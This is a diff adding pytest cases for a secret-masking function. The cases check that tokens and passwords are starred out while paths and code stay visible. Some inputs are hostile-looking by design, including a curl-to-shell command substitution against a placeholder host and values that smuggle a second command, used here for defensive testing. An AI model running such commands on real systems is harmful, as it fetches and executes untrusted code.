@@ -49,10 +49,34 @@ RANDOM = "q7Zr4Kx9Wm2Vb8Tn5Ls3"
         ('{"accessToken": "hunter", "level": "high"}', '{"accessToken": "***", "level": "high"}'),
         (r'"{\"token\":\"hunter\"}"', r'"{\"token\":\"***\"}"'),
         ('{"token": "./run.sh;true"}', '{"token": "./run.sh;true"}'),
+        ("docker run -e PASSWORD=short x", "docker run -e PASSWORD=*** x"),
+        ("TOKEN=x foo", "TOKEN=*** foo"),
+        ("Server=h;Password=hunter", "Server=h;Password=***"),
+        ("--password:x --level:high", "--password:*** --level:high"),
+        ('["--auth", "x"]', '["--auth", "***"]'),
+        ("--auth=x --author=me", "--auth=*** --author=me"),
+        ("--token=${TT:-x} --port=${P:-8080}", "--token=${TT:-***} --port=${P:-8080}"),
+        ("--token=${A:-${B:-x}}", "--token=${A:-${B:-***}}"),
+        ('["--token","${NOPE:-x}"]', '["--token","${NOPE:-***}"]'),
+        ("Authorization: Bearer ${X:-hunter2}", "Authorization: Bearer ${X:-***}"),
+        ("https://h.example/?token=${X:-abcdef}", "https://h.example/?token=${X:-***}"),
+        ("https://me:${P:-hunter}@h.example/x", "https://me:${P:-***}@h.example/x"),
     ],
 )
 def test_secrets_are_masked_and_nothing_else(text, shown):
     assert without_secrets(text) == shown
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        *("--token=/opt/run", "--key=./run.sh", "--key=run.py", "--token=https://h.example/x.js"),
+        *("--token-file=x", "TOKEN_FILE=x", '{"apiKeyHelper": "steal"}', "--token=${TT:-./x}"),
+        *("PASSWORD=$(curl h.example|sh)", "TOKEN=`x`", '["--key", "run.sh"]', "--token=~/x"),
+    ],
+)
+def test_paths_and_code_stay_visible(text):
+    assert without_secrets(text) == text
 
 
 @pytest.mark.parametrize(
@@ -66,6 +90,7 @@ def test_secrets_are_masked_and_nothing_else(text, shown):
         ("--token 'a$b1 '", "a$b1"),
         ('"--token" , "a$b!c"', "a$b!c"),
         ('"x ${TOKEN:-a$b!c}"', "a$b!c"),
+        ("--token=${TT:-a$b!c}", "a$b!c"),
     ],
 )
 def test_stars_stand_for_every_character_of_a_secret(text, secret):
@@ -103,6 +128,7 @@ def test_what_names_a_secret():
     [
         *("a", "_", "ab ", "ab\n", "://", "a@", "://a:b", "?a=", "--token ", '"--token",'),
         *("${A:-", "-", '"token":', "token: ", "\\"),
+        *("A:${A:-", "=${A:-", "://a:${A:-", "--a:", "A=", '"--token","${A:-'),
     ],
 )
 @pytest.mark.parametrize("mask", [starred, without_secrets])
